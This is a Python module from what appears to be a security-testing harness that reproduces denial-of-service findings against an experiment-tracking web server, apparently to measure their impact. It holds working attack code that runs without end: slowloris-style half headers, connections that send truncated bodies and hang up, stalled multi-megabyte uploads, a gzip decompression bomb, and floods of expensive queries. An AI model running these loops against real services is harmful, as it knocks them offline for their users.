"""The attacks of the security findings by name: what each sends, and which experiments it needs.

Each repeats until its process is ended.
"""

from __future__ import annotations

import gzip
import socket
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import partial
from itertools import cycle
from urllib.parse import quote

from attacking import floods
from attacking.crowd import Crowd
from attacking.target import ADDRESSES, Target, http_request

MIB = 1024 * 1024
_PROTOBUF = "application/x-protobuf"
_HYPERPARAMETERS = "data/plugin/hparams/session_groups"
_ALL_SESSIONS = (
    b'{"allowedStatuses": [0, 1, 2, 3], "colParams": [], "sliceSize": 1000000,'
    b' "includeMetrics": false}'
)
_EXTREMES = "scalars/data?sampling=extremes&downsample=100"
_COMPARED = 10

Run = Callable[[Target, Counter[str]], None]
"""Attacks the target without an end, and counts outcomes."""


@dataclass(frozen=True)
class Attack:
    """An attack: its function, and the names of the experiments that it reads.

    A flood comes from one address or person, and is run by one caller.
    """

    run: Run
    experiments: tuple[str, ...] = ()
    is_flood: bool = False


def _abort(target: Target, tally: Counter[str], request: bytes) -> None:
    """Send a body without its last bytes and hang up, one connection after the other.

    The next one does not wait for the server: with one at a time there, little of what it keeps is
    seen.
    """
    while True:
        with socket.socket() as client:
            client.settimeout(10)
            client.bind((ADDRESSES[0], 0))
            try:
                client.connect((target.host, target.port))
                client.sendall(request)
                tally["aborted"] += 1
            except OSError:
                tally["cut off"] += 1
        time.sleep(0.02)  # at most 50 MB/s: copying them must not be what slows the victim


def _keep(
    target: Target, tally: Counter[str], requests: Sequence[bytes], count: int, **options: float
) -> None:
    """Keep `count` of the requests, scaled, under way at once."""
    crowd = Crowd(target, tally, **options)  # type: ignore[arg-type]  # each option is passed on as it is
    try:
        crowd.keep(cycle(requests), target.times(count))
    finally:
        crowd.close()


def _json_body(target: Target) -> bytes:
    """Build a body of 1 MiB whose last bytes are missing."""
    path = f"/api/v1/experiments/{target.experiments['small']}/scalars/data"
    return target.ask("POST", path, b"a" * (MIB - 10), 10)


def _batch(target: Target, body: bytes = b"", encoding: str = "") -> bytes:
    """Build a batch; without a body, one of 16 MiB whose last bytes are missing."""
    path = f"/api/v1/experiments/{target.experiments['small']}/batches"
    return http_request(
        "POST",
        path,
        token=target.append_token,
        body=body or b"\0" * (16 * MIB - 10),
        missing_bytes=0 if body else 10,
        content_type=_PROTOBUF,
        encoding=encoding,
    )


def _abort_json(target: Target, tally: Counter[str]) -> None:
    _abort(target, tally, _json_body(target))


def _abort_batches(target: Target, tally: Counter[str]) -> None:
    _abort(target, tally, _batch(target))


def _many(path: str, experiment: str, count: int, **options: float) -> Run:
    """Return an attack that asks the same of the read API, so often at once."""

    def run(target: Target, tally: Counter[str]) -> None:
        _keep(target, tally, [target.data(experiment, path)], count, **options)

    return run


def _many_pages(path: str, experiment: str, count: int) -> Run:
    """Return an attack that asks the same of the page, so often at once."""

    def run(target: Target, tally: Counter[str]) -> None:
        _keep(target, tally, [target.page(experiment, path)], count)

    return run


def _list_wide(target: Target, tally: Counter[str]) -> None:
    paths = ("data/plugin/timeseries/tags", "data/plugin/scalars/tags")
    sessions = f"/experiment/{target.experiments['wide']}/{_HYPERPARAMETERS}"
    requests = [
        *(target.page("wide", path) for path in paths),
        target.ask("POST", sessions, _ALL_SESSIONS),
    ]
    _keep(target, tally, requests, len(requests))


def _compare_wide(target: Target, tally: Counter[str]) -> None:
    names = ",".join(f"n{number}:{target.experiments['wide']}" for number in range(_COMPARED))
    request = target.ask("GET", f"/compare/{quote(names, safe=':,')}/data/plugin/timeseries/tags")
    _keep(target, tally, [request], 1)


def _stall_json(target: Target, tally: Counter[str]) -> None:
    _keep(target, tally, [_json_body(target)], 500)


def _stall_batches(target: Target, tally: Counter[str]) -> None:
    _keep(target, tally, [_batch(target)], 60)


def _hostile_batches(target: Target, tally: Counter[str]) -> None:
    """150 batches of 16 kB, each of which is 8 million fields of two bytes."""
    body = gzip.compress(b"\x10\x01" * (8 * MIB - 8))
    _keep(target, tally, [_batch(target, body, encoding="gzip")], 150)


def _half_headers(target: Target, tally: Counter[str]) -> None:
    _keep(target, tally, [b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "], 3_000)


def _log_bodies(target: Target, tally: Counter[str]) -> None:
    """Bodies of 1 MB that the page's handler refuses."""
    path = f"/experiment/{target.experiments['small']}/{_HYPERPARAMETERS}"
    _keep(target, tally, [target.ask("POST", path, b"A" * 1_000_000)], 1)


_UNREAD = {"is_reading": False, "receive_buffer": 4096}

ATTACKS: dict[str, Attack] = {
    "H1-json": Attack(_abort_json, ("small",)),
    "H1-batch": Attack(_abort_batches, ("small",)),
    "H2": Attack(_many_pages("data/plugin/text/text?run=train&tag=note", "text", 8), ("text",)),
    "H4": Attack(_list_wide, ("wide",)),
    "H4-compare": Attack(_compare_wide, ("wide",)),
    "M1": Attack(_many("scalars/data?downsample=5000", "answers", 100, **_UNREAD), ("answers",)),
    "M2-json": Attack(_stall_json, ("small",)),
    "M2-batch": Attack(_stall_batches, ("small",)),
    "M3": Attack(_hostile_batches, ("small",)),
    "M4-extremes": Attack(_many(_EXTREMES, "points", 30), ("points",)),
    "M4-addresses": Attack(
        _many(_EXTREMES, "points", len(ADDRESSES), addresses=len(ADDRESSES)), ("points",)
    ),
    "M4-digests": Attack(_many("digests", "points", 30), ("points",)),
    "M4-sample": Attack(_many("scalars/data?downsample=12500", "points", 20), ("points",)),
    "M5-tails": Attack(_many("scalars/tail", "small", 200), ("small",)),
    "M5-streams": Attack(
        _many("scalars/data?sampling=all&format=csv", "points", 8, sip_seconds=10.0, **_UNREAD),
        ("points",),
    ),
    "M6": Attack(_half_headers),
    "M8-bodies": Attack(_log_bodies, ("small",)),
    "M9": Attack(_many_pages("data/plugin/graphs/graph?run=train", "graph", 8), ("graph",)),
}

FLOODS: dict[str, Attack] = {
    "S1-churn": Attack(floods.churn, is_flood=True),
    **{
        f"S2-health-{count}": Attack(partial(floods.ask_health, count=count), is_flood=True)
        for count in (64, 1_000)
    },
    **{
        f"S2-refused-{count}": Attack(partial(floods.be_refused, count=count), is_flood=True)
        for count in (1_000, 3_800)
    },
    "S3-workspaces": Attack(floods.use_workspaces, ("points",), is_flood=True),
    "S3-invited": Attack(floods.use_invited, ("points",), is_flood=True),
    "S4-grpc": Attack(floods.hold_grpc, is_flood=True),
    "S7-subnets": Attack(floods.use_subnets, is_flood=True),
}
"""One address each, or one person, without a pause."""

SIBLINGS = {"S3-invited"}
"""Attacks by accounts whom the owner of the victim invited too, and who divide the owner's part: not
among those at once, where the others divide the rest.
"""


def _burn(_target: Target, _tally: Counter[str]) -> None:
    while True:
        pass


CONTROLS: dict[str, Attack] = {"control-cpu": Attack(_burn, is_flood=True)}
"""Load that is no attack: how much the machine itself slows the victim."""

KNOWN = ATTACKS | FLOODS | CONTROLS
